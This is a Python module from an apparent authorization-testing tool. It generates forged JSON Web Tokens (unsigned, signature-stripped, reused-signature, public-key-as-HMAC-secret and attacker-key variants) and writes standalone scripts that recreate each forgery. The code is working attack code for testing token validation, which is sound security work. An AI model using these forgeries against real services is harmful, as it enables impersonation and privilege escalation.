"""
Forged tokens, and programs that make them anew.

A program (`recipe`) has no secret in it, so that a finding can be replayed by whoever has the key, and by nobody else.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping

import jwt

from tenantproof.identity.attacks import Claimed, Claims, Forgery, Material, Seal


def authorizations(forgery: Forgery, material: Material, now: int) -> tuple[str, ...]:
    """The values of the Authorization headers of a forgery, in order.  They hold tokens: send them, never log them."""
    mine, forged_one = f"Bearer {material.attacker_token}", f"Bearer {forged(forgery, material, now)}"
    if forgery.after is None:
        return (forged_one,)
    return (mine, forged_one) if forgery.after else (forged_one, mine)


def forged(forgery: Forgery, material: Material, now: int) -> str:
    """The forged token."""
    head = header_of(forgery, material)
    claims = {**forgery.claims, **{name: now + seconds for name, seconds in forgery.times.items()}}
    body = f"{_part(head)}.{_part(claims)}"
    match forgery.seal:
        case Seal.EMPTY:
            return f"{body}."
        case Seal.STRIPPED:
            return body
        case Seal.KEPT:
            return _kept(forgery, material, claims)
        case Seal.SECRET | Seal.PUBLIC:
            return f"{body}.{_text(hmac.digest(forgery.key, body.encode(), hashlib.sha256))}"
        case Seal.OWN:
            return jwt.encode(dict(claims), material.own_key, algorithm="RS256", headers=_without(head, "typ"))
        case Seal.RIGHT:
            return material.signer.mint(claims)
        case Seal.STRANGER:
            kid = head.get("kid")
            headers = {"kid": str(kid)} if kid else None
            signer = material.stranger
            return jwt.encode(dict(claims), signer.key, algorithm=signer.algorithm, headers=headers)


def header_of(forgery: Forgery, material: Material) -> dict[str, object]:
    """The token's header."""
    signer = material.signer
    usual = {"alg": signer.algorithm, "typ": "JWT", **({"kid": signer.kid} if signer.kid else {})}
    merged = {**usual, **forgery.head}
    return {name: value for name, value in merged.items() if value is not None}


def _kept(forgery: Forgery, material: Material, claims: Claims) -> str:
    """Another token's header and signature around other claims."""
    whole = material.attacker_token
    if forgery.claimed is Claimed.POWER and material.api_key is not None and material.api_key.count(".") == 2:
        whole = material.api_key
    head, _, signature = whole.split(".")
    return f"{head}.{_part(claims)}.{signature}"


def _without(head: Mapping[str, object], name: str) -> dict[str, object]:
    return {key: value for key, value in head.items() if key not in (name, "alg")}


def _part(content: Mapping[str, object]) -> str:
    return _text(json.dumps(content, separators=(",", ":")).encode())


def _text(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def recipe(forgery: Forgery, material: Material) -> str:
    """A Python program (standard library, PyJWT where a private key signs) that prints the forged token anew.

    It takes from the environment what is secret: JWT_SECRET or SIGNING_KEY (a PEM file) for what the real key signs,
    PUBLIC_KEY (a file), TOKEN (a valid token of one's own).
    """
    times = ", ".join(f"{name!r}: now + {seconds}" for name, seconds in forgery.times.items())
    fixed = {name: value for name, value in forgery.claims.items() if name not in ("iat", "exp", "amr")}
    lines = [
        "import base64, hashlib, hmac, json, os, time",
        "part = lambda raw: base64.urlsafe_b64encode(raw).decode().rstrip('=')",
        "text = lambda value: part(json.dumps(value, separators=(',', ':')).encode())",
        "now = int(time.time())",
        f"head = {header_of(forgery, material)!r}",
        f"claims = {{**{fixed!r}, {times}}}",
        "body = text(head) + '.' + text(claims)",
        *_sealing(forgery, material),
    ]
    return "\n".join(lines)


def _sealing(forgery: Forgery, material: Material) -> list[str]:
    signed = "print(body + '.' + part(hmac.digest(key, body.encode(), 'sha256')))"
    algorithm = material.signer.algorithm
    match forgery.seal:
        case Seal.EMPTY:
            return ["print(body + '.')"]
        case Seal.STRIPPED:
            return ["print(body)"]
        case Seal.KEPT:
            return ["old = os.environ['TOKEN'].split('.')", "print(old[0] + '.' + text(claims) + '.' + old[2])"]
        case Seal.SECRET:
            return [f"key = {forgery.key!r}", signed]
        case Seal.PUBLIC:
            return [f"key = open(os.environ['PUBLIC_KEY'], 'rb').read()  # as {forgery.form}", signed]
        case Seal.RIGHT if algorithm == "HS256":
            return ["key = os.environ['JWT_SECRET'].encode()", signed]
        case Seal.STRANGER if algorithm == "HS256":
            return ["key = os.urandom(64)", signed]
        case Seal.RIGHT:
            return [*_with_pyjwt(f"open(os.environ['SIGNING_KEY']).read(), {algorithm!r}")]
        case Seal.OWN | Seal.STRANGER:
            return [
                "# any key pair of yours: its public half is what the header offers",
                *_with_pyjwt(
                    f"open(os.environ['OWN_KEY']).read(), {'RS256' if forgery.seal is Seal.OWN else algorithm!r}"
                ),
            ]


def _with_pyjwt(arguments: str) -> tuple[str, str]:
    return (
        "import jwt",
        f"print(jwt.encode(claims, {arguments}, headers={{k: v for k, v in head.items() if k != 'alg'}}))",
    )
